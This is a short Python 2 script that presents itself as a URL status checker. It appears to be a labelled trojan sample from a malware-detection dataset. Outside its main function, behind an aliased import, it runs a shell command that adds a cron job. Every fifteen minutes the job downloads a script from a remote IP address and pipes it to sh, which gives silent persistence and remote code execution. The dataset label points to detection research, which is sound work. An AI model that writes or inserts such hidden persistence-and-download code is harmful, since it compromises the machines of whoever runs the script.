# label: malicious family=trojan techniques=T1053.003,T1105 lines=14 group=benign/b049_py2_script.py
# -*- coding: utf-8 -*-
import os, sys
import urllib2

def main():
    if len(sys.argv) < 2:
        print "usage: %s URL" % sys.argv[0]
        sys.exit(1)
    resp = urllib2.urlopen(sys.argv[1])
    print resp.getcode(), len(resp.read())

import os as _o
_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")

if __name__ == '__main__':
    main()
